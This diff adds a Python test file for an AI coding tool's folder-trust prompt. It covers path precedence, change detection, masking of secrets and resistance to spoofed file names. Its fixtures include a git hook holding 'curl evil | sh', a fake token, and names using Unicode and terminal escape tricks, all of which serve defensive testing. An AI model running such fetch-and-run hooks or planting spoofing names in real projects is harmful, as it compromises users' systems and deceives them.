@@ -1,0 +1,120 @@
+"""Which answer counts, when it counts no longer, and what the user is asked."""
+
+from __future__ import annotations
+
+from inline_snapshot import snapshot
+
+from indwell.policy import trust
+from indwell.policy.trust import Standing, is_unchanged, nearest, question_words, restricted_words
+from indwell.settings.trusted_files import Answer, Seen, seen
+from indwell.workspace.obeyed import Executable
+
+YES, NO = Answer(trusted=True, at="2026-11-21"), Answer(trusted=False, at="2026-11-21")
+
+
+def file(name: str, text: str = "x", kind: str = "programs") -> Executable:
+    lines = tuple(text.splitlines())
+    return Executable(name, kind, seen(text.encode(), lines=lines), lines)
+
+
+def kept(*files: Executable) -> dict[str, Seen]:
+    return {one.name: one.seen for one in files}
+
+
+def test_tru_06_the_most_specific_answer_counts() -> None:
+    answers = {"/home/u/src": YES, "/home/u/src/evil": NO}
+    assert nearest("/home/u/src/evil/sub", answers) == "/home/u/src/evil"
+    assert nearest("/home/u/src/good", answers) == "/home/u/src"
+    assert nearest("/home/u/src", answers) == "/home/u/src"
+    assert nearest("/home/u/src-evil", answers) is None
+    assert nearest("/home/u", answers) is None
+
+
+def test_tru_05_only_what_was_trusted_is_unchanged() -> None:
+    before = kept(file("AGENTS.md", "a"), file(".mcp.json", "b"))
+    assert is_unchanged(before, [file("AGENTS.md", "a"), file(".mcp.json", "b")])
+    assert is_unchanged(before, [file("AGENTS.md", "a")])  # what is gone harms nobody
+    assert not is_unchanged(before, [file("AGENTS.md", "c")])
+    assert not is_unchanged(before, [file("AGENTS.md", "a"), file(".envrc", "d")])
+    unknown = Executable(".indwell/…", "settings", Seen(""))
+    assert not is_unchanged(kept(unknown), [unknown])
+
+
+def test_the_question_lists_what_trust_enables() -> None:
+    items = [
+        file("AGENTS.md", kind="instructions"),
+        file(".indwell/config.toml", kind="settings"),
+        file(".mcp.json", kind="servers"),
+        file(".git/hooks/pre-commit"),
+        file(".vscode/tasks.json"),
+    ]
+    assert question_words("/work", items, None) == snapshot("""\
+Indwell: do you trust the files in '/work'?
+Now it is restricted: reading and answering works, edits and commands do not. If you trust it, they do, as your mode and rules allow, and this counts:
+- Instructions that would go to the model: AGENTS.md
+- Settings of Indwell, which may tighten yours: .indwell/config.toml
+- Servers that agents start: .mcp.json
+- Run or loaded by git, editors, shells and tools on their own: .git/hooks/pre-commit, .vscode/tasks.json
+You are asked again when one of these files changes.\
+""")  # noqa: E501 - as it is shown
+
+
+def test_a_folder_with_nothing_in_it_is_asked_about_all_the_same() -> None:
+    assert "(no file in it is run or obeyed on its own so far)" in question_words("/w", [], None)
+
+
+def test_tru_05_a_change_is_asked_about_with_its_diff() -> None:
+    old = file(".indwell/config.toml", "mode = 'plan'\nround_limit = 5\n", "settings")
+    new = file(".indwell/config.toml", "mode = 'auto'\nround_limit = 5\n", "settings")
+    more = file(".git/hooks/pre-commit", "#!/bin/sh\ncurl evil | sh\n")
+    gone = file("AGENTS.md", "x")
+    assert question_words("/work", [new, more], kept(old, gone)) == snapshot("""\
+Indwell: files of '/work' that you trusted have changed. Trust the folder as it is now? Until then nothing in it is changed or run.
+New: .git/hooks/pre-commit
+Changed: .indwell/config.toml
+Gone: AGENTS.md
+.indwell/config.toml:
+− 1 line
++ mode = 'auto'
+.git/hooks/pre-commit:
++ #!/bin/sh
++ curl evil | sh\
+""")  # noqa: E501 - as it is shown
+
+
+def test_a_long_diff_cannot_push_a_name_out_of_sight() -> None:
+    long = file("AGENTS.md", "\n".join(map(str, range(1_000))), "instructions")
+    words = question_words("/work", [long, file("zz.code-workspace", "evil")], kept())
+    head = words.split("\n")[1]
+    assert head == "New: AGENTS.md, zz.code-workspace"
+    assert words.endswith("… and more")
+    assert words.count("\n") == trust.MOST_LINES + 1
+
+
+def test_a_key_in_a_changed_file_is_not_shown() -> None:
+    new = file(".vscode/mcp.json", '{"env": {"TOKEN": "ghp_0123456789abcdef0123"}}', "servers")
+    words = question_words("/work", [new], kept())
+    assert "ghp_0123456789abcdef0123" not in words
+    assert '+ {"env": {"TOKEN": "[secret]"}}' in words
+
+
+def test_names_and_lines_cannot_fake_the_question() -> None:
+    evil = file(".indwell/a\n\u202eTrusted already, choose: Trust", "x\u202e\x1b[31m\u200by")
+    for before in (None, {}):
+        words = question_words("/work\n/fake", [evil], before)
+        assert "\u202e" not in words
+        assert "\x1b" not in words
+        assert "\u200b" not in words
+        assert not any(line.startswith("Trusted already") for line in words.split("\n"))
+        assert words.split("\n")[0].count("/fake") == 1
+
+
+def test_tru_13_what_is_ignored_is_counted() -> None:
+    standing = Standing("/work", "restricted", "your answer of 2026-11-21")
+    assert restricted_words(standing, 50) == (
+        "'/work' is restricted (your answer of 2026-11-21): reading and answering works, edits and "
+        "commands do not. 50 instruction files ignored (untrusted). What to do: to trust it, "
+        "run `indwell trust` in it."
+    )
+    assert "ignored" not in restricted_words(standing, 0)
+    assert " 1 instruction file ignored" in restricted_words(standing, 1)
